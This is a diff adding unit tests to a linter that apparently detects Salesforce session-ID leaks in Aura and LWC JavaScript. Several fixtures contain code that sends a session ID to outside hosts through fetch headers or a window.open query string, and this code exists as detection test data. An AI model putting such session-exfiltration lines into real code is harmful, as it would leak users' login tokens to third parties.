@@ -681,6 +681,42 @@ def test_aura_markup_names_its_controller() -> None:
     assert lower_aura_markup("src/aura/Plain/Plain.cmp", b"<aura:component/>", []) == []
 
 
+def test_aura_markup_names_the_component_it_extends() -> None:
+    from apexlint.lower.aura import helper_method_names, lower_aura_markup
+    markup = b'<aura:component extends="c:SyncBase" implements="force:hasRecordId"></aura:component>'
+    (ir,) = lower_aura_markup("src/aura/SyncCmp/SyncCmp.cmp", markup, [])
+    assert (ir.aura_extends, ir.aura_controller) == ("c:syncbase", "")
+    assert helper_method_names("({\n  push: function (c, t) {\n    if (t) { x(); }\n  },\n  send(t) {\n  }\n})") == \
+        ("push", "send")
+
+
+def test_an_aura_controller_hands_its_helper_over_under_any_name() -> None:
+    """The helper is an action's third parameter, whatever it is called, or a copy of it."""
+    from apexlint.lower import aura_helper_call
+    assert aura_helper_call(b"({ a: function (cmp, evt, hlp) { hlp.send(cmp); } })")
+    assert aura_helper_call(b"({ a: function (cmp, evt, helper) { var h = helper;\n h.send(cmp); } })")
+    assert aura_helper_call(b"({ a: (cmp, evt, h) => { h.send(cmp); } })")
+    assert not aura_helper_call(b"({ a: function (cmp, evt) { other.send(cmp); } })")
+
+
+def test_imported_and_aura_labels_are_written_as_page_merge_fields() -> None:
+    """An LWC's `@salesforce/label/c.X` import and Aura's `$A.get('$Label.c.X')` are the label's
+    text, as a page's `{!$Label.X}` is (the analysis puts in its packaged value)."""
+    ir = lower("""import getSid from '@salesforce/apex/Ctl.getSid';
+import HOST from '@salesforce/label/c.Partner_Host';
+import OTHER from '@salesforce/label/acme.Other_Host';
+async function send() {
+    const sid = await getSid();
+    fetch(HOST + '/v1', {headers: {Authorization: sid}});
+    fetch(`${OTHER}/v2`, {headers: {Authorization: sid}});
+    fetch($A.get('$Label.c.Aura_Host') + '/v3', {headers: {Authorization: sid}});
+    fetch($A.get('v.url'), {headers: {Authorization: sid}});
+}
+""", "force-app/main/default/lwc/sender/sender.js")
+    assert [u.url for u in ir.url_uses] == [
+        "{!$Label.Partner_Host}/v1", "{!$Label.acme__Other_Host}/v2", "{!$Label.Aura_Host}/v3", "{…}"]
+
+
 def test_a_session_only_asked_about_is_recorded_as_tested() -> None:
     """`if (sforce.connection.sessionId)`, `!!__sfdcSessionId`, `sid == null`: yes/no questions
     about a session, recorded for SID010 with how each asks."""
@@ -708,9 +744,51 @@ if (sid) { fetch('https://collector.vendor.example/x', {headers: {Authorization:
     assert [u.span.start_line for u in ir.url_uses] == [4]
 
 
+def test_a_library_predicate_is_a_test() -> None:
+    """`Ext.isEmpty(sid)`, `_.isEmpty(sid)`, `sid.startsWith('00D')`, `/^00D/.test(sid)`: a yes/no
+    about the session; `sid.length > 0` compares too. None of them hands the session on."""
+    ir = lower("""var sid = sforce.connection.sessionId;
+if (Ext.isEmpty(sid)) { return; }
+var a = _.isEmpty(sid) || jQuery.isEmptyObject(sid);
+var b = sid.length > 0 && sid.startsWith('00D');
+var c = /^00D/.test(sid) || $A.util.isEmpty(sid);
+""")
+    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [
+        (2, "Ext.isEmpty(…)"), (3, "_.isEmpty(…)"), (3, "jQuery.isEmptyObject(…)"), (4, "compared with >"),
+        (4, "….startsWith(…)"), (5, "/…/.test(…)"), (5, "$A.util.isEmpty(…)")]
+    assert ir.unfollowed_calls == () and ir.url_uses == ()
+
+
+def test_a_session_handed_to_unknown_code_is_recorded() -> None:
+    """`Vault.keep(sid)`, `sid.charAt(i)`: code the flow does not follow gets the session; calls
+    it follows (its own functions, encoders, string methods, mutators) are not recorded."""
+    ir = lower("""var sid = sforce.connection.sessionId;
+Vault.keep(sid);
+var c = sid.charAt(0);
+function own(x) { return x; }
+var d = own(sid) + encodeURIComponent(sid) + sid.split('!')[0];
+var list = []; list.push(sid);
+""")
+    assert [(u.span.start_line, u.callee) for u in ir.unfollowed_calls] == [(2, "Vault.keep"), (3, "sid.charAt")]
+    assert ir.session_tests == ()
+
+
 def test_scripts_without_a_session_of_their_own_are_not_walked_for_tests() -> None:
     """Only a script reading a session is walked for tests; what Apex hands over is not tested here."""
     ir = lower(AURA_CONTROLLER.replace("var sid = response.getReturnValue();",
                                        "var sid = response.getReturnValue(); if (!sid) { return; }"),
                "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
     assert ir.session_tests == ()
+
+
+def test_a_bracket_left_open_to_the_end_is_named_as_never_closed() -> None:
+    """W-11: an Aura controller without its final `})` is one error region from its first `(` to
+    the end; the note says the bracket is never closed (not that it was unexpected), and what
+    parsed inside is still lowered."""
+    ir = lower("({\n  go : function() {\n" + SID + "    window.open('https://x.example.com/?s=' + sid);\n  }\n",
+               path="aura/Cmp/CmpController.js")
+    (note,) = [n for n in ir.notifications if n.code == "parse-error"]
+    assert "'(' is never closed" in note.message and note.span is not None and note.span.start_line == 1
+    assert [s.kind for s in ir.sources] == [SourceKind.JS_SFORCE_SESSION]
+    closed = lower("({\n  go : function() {\n    var x = (1;\n  }\n})\n", path="aura/Cmp/CmpController.js")
+    assert not any("never closed" in n.message for n in closed.notifications)
